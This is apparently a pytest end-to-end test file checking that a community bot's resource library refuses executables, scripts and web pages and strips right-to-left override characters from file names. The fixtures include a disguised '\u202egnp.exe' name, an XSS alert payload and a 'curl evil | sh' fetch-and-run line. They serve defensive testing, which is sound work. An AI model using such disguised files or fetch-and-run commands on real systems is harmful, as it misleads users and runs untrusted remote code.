"""Files in `/resource share` and "Save to resource library": programs, scripts and web pages are refused by
name and by content, with the kinds that are welcome; bidirectional controls are taken out of file names."""

from __future__ import annotations

import pytest

from tests.e2e.community import Community, eventually
from tests.e2e.steps.resources import cards, share

WINDOWS_PROGRAM = list(
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00"
)


@pytest.mark.parametrize(
    "file",
    [
        {"filename": "grades.exe", "content": WINDOWS_PROGRAM},
        {"filename": "\u202egnp.exe", "content": WINDOWS_PROGRAM, "content_type": "image/png"},
        {"filename": "setup.bat", "content": "@echo off"},
        {"filename": "install.sh", "content": "echo hi"},
        {"filename": "lesson.html", "content": "<p>hello</p>"},
        {"filename": "logo.svg", "content": "<svg xmlns='http://www.w3.org/2000/svg'/>"},
        {"filename": "worksheet.pdf", "content": WINDOWS_PROGRAM, "content_type": "application/pdf"},
        {
            "filename": "worksheet.pdf",
            "content": "#!/bin/sh\ncurl evil | sh",
            "content_type": "application/pdf",
        },
        {"filename": "notes.txt", "content": "<!DOCTYPE html><script>alert(1)</script>"},
    ],
)
async def test_programs_scripts_and_web_pages_are_refused(
    library: Community, file: dict[str, object]
) -> None:
    reply = await library.alice.run("resource share", title="Gradebook helper", file=file)
    reply = await library.control.settled(reply, "I can't keep")
    assert reply.ephemeral
    assert "I can't keep" in reply.text
    assert "Something went wrong" not in reply.text
    assert "Welcome are documents (PDF, Word, text), slides, spreadsheets" in reply.text
    assert "\u202e" not in reply.text
    assert await cards(library) == []
    found = await library.alice.run("resource search", query="gradebook")
    assert "Gradebook helper" not in found.text


async def test_a_right_to_left_override_is_taken_out_of_a_kept_file_name(library: Community) -> None:
    # The override would show the rest of the name reversed; with the controls gone it reads as typed.
    file = {
        "filename": "lesson\u202e\u2066 plan.pdf",
        "content": "%PDF-1.4 plan",
        "content_type": "application/pdf",
    }
    reply = await share(library, title="Lesson plan", file=file)
    assert "Added **Lesson plan**" in reply.text, reply.text
    card = (await eventually(lambda: cards(library), what="the card"))[0]
    assert card["attachments"][0]["filename"] == "lesson plan.pdf"
    assert "\u202e" not in str(card)
    assert "\u2066" not in str(card)


async def test_save_to_library_refuses_a_program_before_the_form(library: Community) -> None:
    posted = await library.control.call(
        "POST",
        "/messages",
        {
            "channel_id": library.general_id,
            "user_id": library.bob.user_id,
            "content": "",
            "attachments": [{"filename": "\u202egnp.exe", "content": WINDOWS_PROGRAM}],
        },
    )
    reply = await library.alice.context_menu("Save to resource library", posted["id"])
    assert not reply.is_modal
    assert "I can't keep “gnp.exe” in the library" in reply.text
    assert "Welcome are documents" in reply.text
